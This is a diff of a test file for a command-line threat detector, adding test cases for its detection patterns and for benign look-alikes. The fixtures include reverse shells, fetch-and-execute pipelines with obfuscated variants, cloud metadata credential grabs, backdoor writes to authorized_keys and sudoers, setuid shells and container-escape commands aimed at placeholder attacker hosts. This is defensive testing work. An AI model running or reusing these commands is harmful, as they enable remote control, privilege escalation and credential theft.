@@ -1,10 +1,12 @@
 import fc from 'fast-check'
 import { describe, expect, test } from 'vitest'
+import { shownIn } from '../../src/report/knowledge/shape.ts'
 import { shapes } from '../../src/report/knowledge/shapes.ts'
+import { problemsIn } from '../../src/report/verify.ts'
 import { anEvent } from '../event.ts'
 import { reportOn } from './material.ts'
 
-const shown = (line: string) => shapes.flatMap(({ does, pattern }) => (pattern.exec(line) ? [does] : []))
+const shown = (line: string) => shownIn(line, shapes).map(({ does }) => does)
 
 describe('a command line is told by what it does', () => {
   test.each([
@@ -22,7 +24,7 @@ describe('a command line is told by what it does', () => {
     ['perl -MIO -e use Socket;socket(S,PF_INET);open(STDIN,">&S");exec("/bin/sh -i");', 'in one line of code, as reverse shells do'],
     ['php -d x=1 -r $s=fsockopen("198.51.100.9",4444);exec("/bin/sh -i <&3");', 'in one line of code'],
     ['ruby -rsocket -e c=TCPSocket.new("198.51.100.9",4444);IO.popen(c.gets)', 'in one line of code'],
-    ["sudo python3 -c 'import socket,subprocess;s=socket.socket();subprocess.call(x)'", 'in one line of code'],
+    ["sudo python3 -c 'import socket,subprocess;s=socket.socket();s.connect(y);subprocess.call(x,stdin=s)'", 'in one line of code'],
     ["python3 -c import pty;pty.spawn('/bin/bash')", 'starts a program on a terminal of its own making'],
     ['nc -e /bin/sh 198.51.100.9 4444', 'hands a program to a peer'],
     ['nc -lvp 4444 -e /usr/bin/zsh', 'hands a program to a peer'],
@@ -78,13 +80,55 @@ describe('a command line is told by what it does', () => {
     ['sh -c echo /tmp/x.so | tee -a /etc/ld.so.preload', 'writes to /etc/ld.so.preload'],
     ['sh -c ./kworker -o stratum+tcp://pool.example:3333', 'speaks Stratum'],
     ['kworker -o stratum2+tcp://pool.example:3333', 'speaks Stratum'],
-    ['curl http://169.254.169.254/latest/meta-data/iam/security-credentials/web', 'requests the credentials of a role'],
-    ['curl 169.254.170.2/v2/credentials/b4f0', 'requests the credentials of a role'],
-    ['curl -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token?resource=x', 'requests the credentials of a role'],
+    ['curl http://169.254.169.254/latest/meta-data/iam/security-credentials/web', 'fetches the credentials of a role'],
+    ['curl 169.254.170.2/v2/credentials/b4f0', 'fetches the credentials of a role'],
+    ['curl -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token?resource=x', 'fetches the credentials of a role'],
     [
       'wget -qO- http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
-      'requests the credentials of a role',
+      'fetches the credentials of a role',
     ],
+    ['sh -c curl http://198.51.100.9/x|sh #', 'runs what it fetches'],
+    ['zsh -ic true # ; curl http://198.51.100.9/x|sh', 'runs what it fetches'],
+    ['/tmp/x # 198.51.100.9 4444 -e /bin/sh', 'hands a program to a peer'],
+    ['bash -c echo "a # b"; curl http://198.51.100.9/x|sh', 'runs what it fetches'],
+    ['bash -c curl http://198.51.100.9/x|$0', 'runs what it fetches'],
+    ['bash -c curl http://198.51.100.9/x|${SHELL}', 'runs what it fetches'],
+    ["bash -c a=cu;b=rl;$a$b http://198.51.100.9/x|ba''sh", 'runs what it fetches'],
+    ['sh -c curl http://198.51.100.9/x | tac | ksh93', 'runs what it fetches'],
+    ['sh -c curl http://198.51.100.9/x | awk 1 | sh', 'runs what it fetches'],
+    ["sh -c curl http://198.51.100.9/x | awk '{print $0}' | sh", 'runs what it fetches'],
+    ['sh -c curl http://198.51.100.9/x | grep . | sh', 'runs what it fetches'],
+    ['sh -c curl http://198.51.100.9/x | tar xO | sh', 'runs what it fetches'],
+    ['sh -c curl http://198.51.100.9/x | xargs -0 sh -c', 'runs what it fetches'],
+    ['sh -c curl http://198.51.100.9/x | xargs -I{} sh -c {}', 'runs what it fetches'],
+    ['sh -c curl http://198.51.100.9/x|while read l; do eval "$l"; done', 'runs each line that it fetches'],
+    ['sh -c echo aaaa | base64 --d | sh', 'decodes something and runs it'],
+    ['python3 -c import urllib.request as u;exec(u.urlopen("http://198.51.100.9/p").read())', 'runs what it fetches'],
+    ['python3 -c import requests; r=requests.get("http://198.51.100.9/p").text; exec(r)', 'runs what it fetches'],
+    ['perl -e use LWP::Simple;eval get("http://198.51.100.9/p")', 'runs what it fetches'],
+    ['node -e require("http").get("http://198.51.100.9/x",r=>r.on("data",d=>eval(""+d)))', 'runs what it fetches'],
+    ['sh -c curl -o /tmp/.x http://198.51.100.9/x; chmod +x /tmp/.x; /tmp/.x', 'fetches a file from the network and runs it'],
+    ['sh -c cd /tmp && wget http://198.51.100.9/b.sh && chmod 777 b.sh && sh b.sh', 'fetches a file from the network and runs it'],
+    ['sh -c curl http://198.51.100.9/x > /tmp/a; sh /tmp/a', 'fetches a file from the network and runs it'],
+    ['sh -c curl -O "http://198.51.100.9/x.py?a=1"; python3 x.py', 'fetches a file from the network and runs it'],
+    ['sh -c tftp -g -r x 198.51.100.9; chmod +x x; ./x', 'fetches a file from the network and runs it'],
+    ['zsh -c zmodload zsh/net/tcp && ztcp 198.51.100.9 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY', 'from within the shell'],
+    ['sh -c echo "ssh-rsa AAAA x" >> /root/.ssh/authorized_keys', 'writes to authorized_keys'],
+    ['sh -c echo AAAA | tee -a ~/.ssh/authorized_keys', 'writes to authorized_keys'],
+    ["sh -c echo 'x ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers", 'writes to sudoers'],
+    ['sh -c echo "x ALL=NOPASSWD: ALL" > /etc/sudoers.d/x', 'writes to sudoers'],
+    ['sh -c cp /bin/bash /tmp/b; chmod u+s /tmp/b', 'lets everybody run a shell with the rights of its owner'],
+    ['chmod 4755 /bin/bash', 'lets everybody run a shell with the rights of its owner'],
+    ['chmod +s /usr/bin/dash', 'lets everybody run a shell with the rights of its owner'],
+    ['chmod 777 /etc/shadow', 'lets everybody change a file that decides who may log in'],
+    ['chmod o+w /etc/passwd', 'lets everybody change a file that decides who may log in'],
+    ['docker -H unix:///var/run/docker.sock run -v /:/host --privileged alpine chroot /host sh', 'the whole file system of the host'],
+    ['docker run --rm -it --privileged --volume=/:/mnt alpine', 'the whole file system of the host'],
+    ['sh -c echo 1 > /tmp/c/x/notify_on_release && echo "$h/cmd" > /tmp/c/release_agent', 'writes to a file of cgroups'],
+    ["sh -c echo '|/tmp/x %p' > /proc/sys/kernel/core_pattern", 'has the kernel run a program of its choice'],
+    ['curl http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/', 'fetches the credentials of a role'],
+    ['sh -c curl 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI', 'fetches the credentials of a role'],
+    ['node -e n=require("net");k=new n.Socket();k.connect(4444,"198.51.100.9",()=>spawn("/bin/sh",[]))', 'in one line of code'],
     ['cat /var/run/secrets/kubernetes.io/serviceaccount/token', "reads the token of the pod's service account"],
     [
       'sh -c curl -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" https://kubernetes',
@@ -122,6 +166,57 @@ describe('what a house runs every day shows none of it', () => {
     'ssh 198.51.100.9 -p 22 -e none bash',
     'xterm -display 10.0.0.1:0 -e /bin/sh',
     'docker run -e SHELL=/bin/bash -p 80 web',
+    // A task's own description, and its figures.
+    'curl http://169.254.170.2/v4/b4f0/stats',
+    'curl -s http://169.254.170.2/v2/metadata',
+    'curl http://169.254.170.2/v3/b4f0/task',
+    // A socket's library without a connection, one that waits, and a database that is connected to.
+    `python3 -c "import subprocess,socket; print(socket.gethostname()); subprocess.run(['ls'])"`,
+    `python3 -c import socket; exec(open('/app/setup.py').read())`,
+    `python3 -c import socket,os; s=socket.socket(); os.execvp('gunicorn',['gunicorn','app']) if s.connect_ex(('db',5432))==0 else exit(1)`,
+    'ruby -rsocket -e TCPSocket.new("db",5432).close; exec "bundle exec puma"',
+    'python3 -c import socket,os; socket.create_connection(("db",5432)).close(); os.system("sh /app/start.sh")',
+    'python3 -c import sqlite3,subprocess; sqlite3.connect("/a.db"); subprocess.run(["sh", "/app/a.sh"])',
+    // Statements for a server.
+    'psql -h db.corp.example 5432 -c sh',
+    'mysql app.example.com 3306 -e bash',
+    // Comments.
+    'sh -c true # note: > /dev/tcp/198.51.100.4/4',
+    'sh -c true # curl http://198.51.100.9/x | sh',
+    'bash -c (echo a) # and then "curl http://198.51.100.9/x | sh',
+    // What is fetched is made into something else, looked at, kept, or a name alone.
+    `sh -c curl -s https://example.com/a | awk '{print "kubectl delete pod " $1}' | sh`,
+    'sh -c curl -s https://example.com/a | grep -c ok | sh',
+    'sh -c curl -sf http://example.com/list | while read l; do echo $l; done',
+    "sh -c curl -sf http://example.com/list | xargs -n1 sh -c 'echo $0'",
+    'sh -c curl -o /tmp/a.sh https://example.com/a.sh; sha256sum -c a.sum; sh /tmp/a.sh',
+    'sh -c curl -Lo /usr/local/bin/kubectl https://example.com/kubectl; chmod +x /usr/local/bin/kubectl; kubectl version',
+    'sh -c curl -L https://example.com/a.tgz | tar xz && cd a && sh ./configure',
+    'sh -c curl -s -o /tmp/a.json https://example.com/a.json; python3 parse.py /tmp/a.json',
+    'python3 -c import requests,subprocess; requests.get("https://example.com/ping"); subprocess.run(["ls"])',
+    'node -e require("http").get("http://web/health",r=>process.exit(r.statusCode===200?0:1))',
+    // Near to a foothold, and none.
+    'zsh -c ztcp db 5432 && exit 0',
+    'cat /root/.ssh/authorized_keys',
+    'chmod 600 /root/.ssh/authorized_keys',
+    'sh -c cat /etc/sudoers > /tmp/a',
+    'visudo -cf /etc/sudoers',
+    'chmod 755 /bin/bash',
+    'chmod 4755 /usr/bin/sudo',
+    'chmod 4750 /bin/bash',
+    'chmod g+s /srv/share',
+    'chmod 2775 /srv/bash',
+    'sh -c cp /etc/a /tmp/b; chmod u+s /tmp/b',
+    'chmod 640 /etc/shadow',
+    'chmod 777 /srv/shadow',
+    'docker run -v /:/rootfs:ro --privileged cadvisor',
+    'docker run -v /:/host:ro,rslave --pid=host node-exporter',
+    'docker run -v /srv:/srv --privileged app',
+    'docker run -v /:/host backup',
+    'cat /sys/fs/cgroup/memory/release_agent',
+    'sh -c echo "hello world" > release_agent',
+    'sh -c echo /var/crash/core.%e > /proc/sys/kernel/core_pattern',
+    'cat /proc/sys/kernel/core_pattern',
     // Text about it.
     'grep -r /dev/tcp/10.0.0.1/80 /var/log',
     'grep stratum+tcp://pool.example /var/log/a',
@@ -172,7 +267,12 @@ test('the report shows the part that is meant, and says no more than that', () =
   const line = 'sh -c cd /tmp; curl -s http://198.51.100.9/x | env bash'
   const { verdict, sections } = reportOn(anEvent({ fields: { 'proc.cmdline': line } }))
   expect(verdict.label).toBe('suspicious')
-  expect(JSON.stringify(sections)).toContain('curl -s http://198.51.100.9/x | bash')
+  expect(JSON.stringify(sections)).toContain('{"value":"curl -s http://198.51.100.9/x | env bash"}')
+})
+
+test.each(shapes.map(({ does }) => does))('"What the command line asks for %s" says it once', (does) => {
+  expect(does).toMatch(/^[a-z]+s /)
+  expect(does).not.toMatch(/^(?:asks|requests) /)
 })
 
 test('whatever stands in a command line, it is read', () => {
@@ -191,6 +291,9 @@ test('whatever stands in a command line, it is read', () => {
     '{a,b}',
     'sh -c ',
     'curl x',
+    '#',
+    'a=b;',
+    '$a',
     ' ',
     '\n',
     '/dev/tcp/a/1',
@@ -236,6 +339,20 @@ test('100 kB of anything takes linear time', () => {
     'EXEC:',
     'EXEC:/a/',
     '/computeMetadata/v1/instance/service-accounts/',
+    '#',
+    ' #\n',
+    '`#',
+    'a=bbbbbbbbbbbb;$a',
+    'curl x | awk 1 |',
+    'curl -o a b; ',
+    'curl -o a b; ./a; ',
+    'curl x | while read l; do ',
+    'python3 -c "a=c.gets popen(" ',
+    'python3 -c "TCPSocket.new((" ',
+    'python3 -c "x=urlopen(" ',
+    'python3 -c "exec(" ',
+    'cp /bin/sh a; chmod u+s b; ',
+    '--mount=/',
   ]
   for (const bit of bits) {
     const [small = 0, large = 0] = [5_000, 100_000].map((size) => timed(`sh -c ${bit.repeat(size / bit.length)}`))
@@ -249,3 +366,16 @@ function timed(text: string): number {
   shown(text)
   return performance.now() - begin
 }
+
+test('what stood in quotes is shown as it was written, so that the evidence holds it', () => {
+  for (const line of [
+    `sh -c curl -s 'http://203.0.113.9/x' | env sh`,
+    `bash -c bash -i >& "/dev/tcp/203.0.113.9/4444" 0>&1`,
+    `sh -c c''url -s http://203.0.113.9/x|sh`,
+    `sh -c echo 'x y' >> "/root/.ssh/authorized_keys"`,
+  ]) {
+    const report = reportOn(anEvent({ fields: { 'proc.cmdline': line } }))
+    expect(report.verdict.label).toBe('suspicious')
+    expect(problemsIn(report)).toEqual([])
+  }
+})
